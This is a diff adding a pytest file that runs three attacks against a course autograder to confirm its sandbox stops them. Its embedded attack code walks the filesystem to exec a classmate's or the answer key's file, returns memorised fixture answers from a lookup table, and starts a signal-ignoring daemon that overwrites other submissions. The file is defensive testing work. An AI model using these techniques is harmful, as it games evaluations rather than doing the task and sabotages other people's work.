@@ -1,0 +1,371 @@
+"""Three ways to beat the grader without doing the work (issue 33), run against the real grader.
+
+Each attack is built from the current student files (``instructor.release.student_files()``) and the
+current fixtures (``rlhf_practice.checks.load_cases()``), never from a list written here, so it covers
+every graded function the course has:
+
+- borrow: at import, each student file walks the filesystem for a file of the same name (or the key's
+  ``*_answer.py``) that is not a stub, execs it and takes its functions. A classmate's finished
+  submission and a copy of the key in a home-like folder are planted next to the submissions, where
+  the walk finds them first when nothing stops it;
+- lookup table: every graded function looks its call up in a table embedded in its file, made from
+  the shipped fixtures' inputs and expected outputs (allclose), and returns zeros otherwise;
+- sabotage: at import, ppo.py starts a process that leaves its session, outlives the child and
+  overwrites the student files of every later grading tree it finds next to its own; an honest copy
+  of the key is graded after it.
+
+The grading trees go to a folder of this test (``tempfile.tempdir``), so that a sabotage that got out
+could only reach this test's trees. The processes a child starts carry its work folder in their
+environment (HOME) and the sabotage's carry a token in their command line: after grading, /proc holds
+none of them.
+
+Two quick checks run in the default suite: what a child in the sandbox can read and write, and the
+grader's one line where the sandbox cannot be built.
+"""
+
+from __future__ import annotations
+
+import ast
+import base64
+import csv
+import io
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import textwrap
+import uuid
+from pathlib import Path
+
+import pytest
+import torch
+
+from instructor import sandbox
+from instructor.grading import main
+from instructor.release import student_files
+from rlhf_practice.checks import load_cases
+from rlhf_practice.course import GRADED, MODULES, ROOT
+
+STUBS = {Path(path).stem: source for path, source in student_files().items()}  # {module: stub source}
+KEY = {m: (ROOT / "answer" / f"{m}_answer.py").read_text() for m in MODULES}
+FUNCTIONS = {m: [g.function for g in GRADED if g.module == m] for m in MODULES}
+FULL_MARKS = sum(g.points for g in GRADED)
+TOKEN = f"rlhf-attack-{uuid.uuid4().hex}"  # in the command line of every process the sabotage starts
+
+BORROW = '''
+import os as _os
+
+
+def _borrow(module, functions):
+    """The functions of the first file named like this one (or the key's) that is not a stub."""
+    names, mine = {module + ".py", module + "_answer.py"}, _os.path.realpath(__file__)
+    here = _os.getcwd()
+    starts = [_os.path.dirname(here), _os.path.dirname(_os.path.dirname(here)), _os.path.dirname(_os.path.dirname(_os.path.dirname(here)))]
+    starts += [_os.path.expanduser("~"), "/tmp", "/home", "/work", "/root", "/"]
+    for start in starts:
+        for folder, subfolders, files in _os.walk(start):
+            if folder in ("/proc", "/sys", "/dev"):
+                subfolders[:] = []
+                continue
+            for name in names.intersection(files):
+                path = _os.path.join(folder, name)
+                if _os.path.realpath(path) == mine:
+                    continue
+                try:
+                    with open(path, encoding="utf-8", errors="replace") as f:
+                        text = f.read()
+                except OSError:
+                    continue
+                if "raise NotImplementedError" in text or not all(f"def {fn}(" in text for fn in functions):
+                    continue
+                namespace = {"__name__": "borrowed_" + module, "__file__": path}
+                try:
+                    exec(compile(text, path, "exec"), namespace)
+                except Exception:
+                    continue
+                return {fn: namespace[fn] for fn in functions}
+    return {}
+
+
+globals().update(_borrow(MODULE, FUNCTIONS))
+'''
+
+LOOKUP = """
+import base64 as _base64
+import builtins as _builtins
+import io as _io
+
+import torch as _torch
+
+_TABLE = _torch.load(_io.BytesIO(_base64.b64decode(DATA)), weights_only=True)
+
+
+def _same(a, b):
+    if isinstance(a, _torch.Tensor) or isinstance(b, _torch.Tensor):
+        return (
+            isinstance(a, _torch.Tensor) and isinstance(b, _torch.Tensor) and a.shape == b.shape
+            and a.dtype == b.dtype and _torch.allclose(a.detach(), b.detach(), equal_nan=True)
+        )
+    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
+        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b))
+    return type(a) is type(b) and a == b
+
+
+def _lookup(function, args, kwargs):
+    for case in _TABLE[function]:
+        if len(case["args"]) == len(args) and all(_same(a, b) for a, b in zip(case["args"], args)):
+            if set(case["kwargs"]) == set(kwargs) and all(_same(case["kwargs"][k], kwargs[k]) for k in kwargs):
+                if case["raises"]:
+                    raise getattr(_builtins, case["raises"])("looked up")
+                expected = case["expected"]
+                if isinstance(expected, list):
+                    return tuple(e.clone() for e in expected)
+                return expected.clone() if isinstance(expected, _torch.Tensor) else expected
+    return _torch.zeros(())
+
+
+def _table_function(function):
+    return lambda *args, **kwargs: _lookup(function, args, kwargs)
+
+
+for _function in _TABLE:
+    globals()[_function] = _table_function(_function)
+"""
+
+# Started at import by ppo.py: a grandchild in its own session that execs this, with TOKEN in its command
+# line, and for a minute overwrites the student files of every other grading tree beside its own.
+SABOTAGE_DAEMON = """
+import glob, os, signal, sys, time
+for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
+    signal.signal(number, signal.SIG_IGN)
+own, stub = sys.argv[2], sys.argv[3]
+deadline = time.time() + 60
+while time.time() < deadline:
+    for path in glob.glob(os.path.join(os.path.dirname(own), "rlhf-grading-*", "tree", "rlhf_practice", "rl", "*.py")):
+        if not path.startswith(own + os.sep) and not path.endswith("__init__.py"):
+            try:
+                with open(path, "w") as f:
+                    f.write(stub)
+            except OSError:
+                pass
+    time.sleep(0.02)
+"""
+SABOTAGE = """
+import os as _os
+import sys as _sys
+
+
+def _sabotage():
+    if _os.fork() == 0:
+        _os.setsid()  # its own session and process group: a kill of the child's group misses it
+        if _os.fork() == 0:
+            daemon = [_sys.executable, "-c", DAEMON, TOKEN, _os.getcwd(), "raise NotImplementedError"]
+            _os.execv(_sys.executable, daemon)
+        _os._exit(0)
+
+
+_sabotage()
+"""
+
+
+def _borrow_files() -> dict[str, str]:
+    return {m: STUBS[m] + f"\nMODULE, FUNCTIONS = {m!r}, {FUNCTIONS[m]!r}\n" + textwrap.dedent(BORROW) for m in MODULES}
+
+
+def _lookup_files() -> dict[str, str]:
+    """Each student file with a table of the shipped cases of its functions (those with a model among
+    their inputs left out: no table can hold a model's call)."""
+    cases = load_cases()
+    files = {}
+    for m in MODULES:
+        table = {f: [] for f in FUNCTIONS[m]}
+        for case in cases:
+            if case["function"] in table and not any(isinstance(v, dict) for _, v in case["args"]):
+                args = [value for _, value in case["args"]]
+                table[case["function"]].append(
+                    {"args": args, "kwargs": case["kwargs"], "expected": case["expected"], "raises": case["raises"]}
+                )
+        buffer = io.BytesIO()
+        torch.save(table, buffer)
+        data = base64.b64encode(buffer.getvalue()).decode()
+        files[m] = STUBS[m] + f"\nDATA = {data!r}\n" + textwrap.dedent(LOOKUP)
+    return files
+
+
+def _sabotage_files() -> dict[str, str]:
+    sabotage = f"\nDAEMON, TOKEN = {SABOTAGE_DAEMON!r}, {TOKEN!r}\n" + textwrap.dedent(SABOTAGE)
+    return {**STUBS, "ppo": STUBS["ppo"] + sabotage}
+
+
+def _folder(path: Path, files: dict[str, str]) -> Path:
+    path.mkdir(parents=True)
+    for module, source in files.items():
+        (path / f"{module}.py").write_text(source)
+    return path
+
+
+def _processes_of(marks: list[str]) -> list[int]:
+    """Processes whose command line or environment holds one of ``marks``."""
+    found = []
+    for entry in Path("/proc").iterdir():
+        if not entry.name.isdigit() or int(entry.name) == os.getpid():
+            continue
+        try:
+            text = (entry / "cmdline").read_bytes() + (entry / "environ").read_bytes()
+        except OSError:  # gone, or not ours to read
+            continue
+        if any(mark.encode() in text for mark in marks):
+            found.append(int(entry.name))
+    return found
+
+
+def _grade(base: Path, submissions: list[Path], *extra: str) -> dict[str, dict[str, str]]:
+    table = base / f"grades-{len(extra)}.csv"
+    main([*map(str, submissions), "--csv", str(table), "--seed", "5", *extra])
+    with open(table, newline="") as f:
+        return {Path(r["submission"]).name: r for r in csv.DictReader(f)}
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, dict[str, str]], list[int]]:
+    """The stubs, the three attacks and an honest copy of the key, graded in that order, with a classmate's
+    finished submission and a copy of the key planted beside them; and the processes of a child left after."""
+    base = tmp_path_factory.mktemp("attacks")
+    _folder(base / "classmate", KEY)  # a finished submission next to the others
+    _folder(base / "home" / "student" / "Downloads" / "rl", {f"{m}_answer": KEY[m] for m in MODULES})
+    submissions = [
+        _folder(base / "stubs", STUBS),
+        _folder(base / "borrow", _borrow_files()),
+        _folder(base / "lookup_table", _lookup_files()),
+        _folder(base / "sabotage", _sabotage_files()),
+        _folder(base / "key_after_sabotage", KEY),
+    ]
+    trees = base / "trees"
+    trees.mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(tempfile, "tempdir", str(trees))  # the grading trees: here, not in /tmp
+        rows = _grade(base, submissions)
+    left = _processes_of([TOKEN, str(base)])
+    yield rows, left
+    for pid in _processes_of([TOKEN, str(base)]):  # a failed run leaves nothing behind either
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_stubs_score_zero_and_the_grader_says_it_used_the_sandbox(graded) -> None:
+    rows, _ = graded
+    assert float(rows["stubs"]["total"]) == 0
+    assert {row["sandbox"] for row in rows.values()} == {"yes"}
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_borrowing_another_submission_at_grading_time_scores_no_more_than_the_stubs(graded) -> None:
+    rows, _ = graded
+    assert float(rows["borrow"]["total"]) <= float(rows["stubs"]["total"])
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+@pytest.mark.xfail(
+    strict=True,
+    reason="points still come from the published cases (102.8 of 215 here): once only fresh inputs count "
+    "(issue 33, part 2) this passes, and this mark goes",
+)
+def test_a_lookup_table_of_the_shipped_fixtures_scores_no_more_than_the_stubs(graded) -> None:
+    rows, _ = graded
+    assert float(rows["lookup_table"]["total"]) <= float(rows["stubs"]["total"])
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_sabotage_scores_nothing_and_cannot_touch_a_later_submission(graded) -> None:
+    rows, _ = graded
+    assert float(rows["sabotage"]["total"]) <= float(rows["stubs"]["total"])
+    assert float(rows["key_after_sabotage"]["total"]) == FULL_MARKS
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_no_process_of_a_child_outlives_grading(graded) -> None:
+    _, left = graded
+    assert left == [], f"processes started by a grading child are still running: {left}"
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(600)
+def test_without_the_sandbox_the_borrow_and_the_table_do_score(tmp_path: Path) -> None:
+    """The control: the attacks above are real ones (what the sandbox and fresh inputs stop)."""
+    _folder(tmp_path / "classmate", KEY)
+    submissions = [_folder(tmp_path / "borrow", _borrow_files()), _folder(tmp_path / "lookup_table", _lookup_files())]
+    (tmp_path / "trees").mkdir()
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(tempfile, "tempdir", str(tmp_path / "trees"))  # the walk finds the classmate, not /tmp's files
+        rows = _grade(tmp_path, submissions, "--no_sandbox")
+    assert float(rows["borrow"]["total"]) == FULL_MARKS
+    assert float(rows["lookup_table"]["total"]) > 0
+    assert {row["sandbox"] for row in rows.values()} == {"no"}
+
+
+PROBE = """
+import os, sys
+def can_read(path):
+    try:
+        os.listdir(path) if os.path.isdir(path) else open(path, "rb").close()
+        return True
+    except OSError:
+        return False
+def can_write(path):
+    try:
+        open(path, "w").close()
+        return True
+    except OSError:
+        return False
+readable, writable = sys.argv[1].split(","), sys.argv[2].split(",")
+caps = [line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
+print(([p for p in readable if can_read(p)], [p for p in writable if can_write(p)], [p for p in os.listdir("/proc") if p.isdigit()], caps))
+"""
+
+
+def test_a_child_in_the_sandbox_sees_and_changes_only_its_own_work(tmp_path: Path) -> None:
+    problem = sandbox.problem()
+    if problem is not None:
+        pytest.skip(f"no sandbox here: {problem}")
+    work, other = tmp_path / "rlhf-grading-mine", tmp_path / "rlhf-grading-other"
+    (work / "tree").mkdir(parents=True)
+    other.mkdir()
+    (other / "ppo.py").write_text(KEY["ppo"])
+    (tmp_path / "planted.py").write_text(KEY["ppo"])
+    home = [p for p in Path.home().iterdir() if p.is_file()][:1]  # a file of the home folder, if it has one
+    secrets = [ROOT / "README.md", ROOT / "answer" / "ppo_answer.py", other / "ppo.py", tmp_path / "planted.py", *home]
+    assert all(p.is_file() for p in secrets)  # out here, the child could read them all
+    targets = [work / "tree" / "ppo.py", other / "x", Path("/x"), Path(sys.prefix) / "x", Path(sys.base_prefix) / "x"]
+    argv = [
+        sys.executable,
+        "-I",
+        "-S",
+        "-c",
+        PROBE,
+        ",".join(map(str, secrets)),
+        ",".join(map(str, [*targets, work / "x"])),
+    ]
+    proc = subprocess.run(sandbox.command(argv, work, [work / "tree"]), cwd=work, capture_output=True, text=True)
+    assert proc.returncode == 0, proc.stderr
+    read, written, pids, caps = ast.literal_eval(proc.stdout)
+    assert read == [], "the child reads outside its own work"
+    assert written == [str(work / "x")], "the child writes outside its work folder"
+    assert pids == ["1"] and set(caps) == {"0000000000000000"}
+
+
+def test_the_grader_stops_in_one_line_where_the_sandbox_cannot_be_built(tmp_path: Path, monkeypatch, capsys) -> None:
+    monkeypatch.setattr(sandbox, "problem", lambda: "unshare (util-linux) is not installed")
+    with pytest.raises(SystemExit) as exit_:
+        main([str(tmp_path)])
+    assert exit_.value.code == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "unshare (util-linux) is not installed" in err and "--no_sandbox" in err
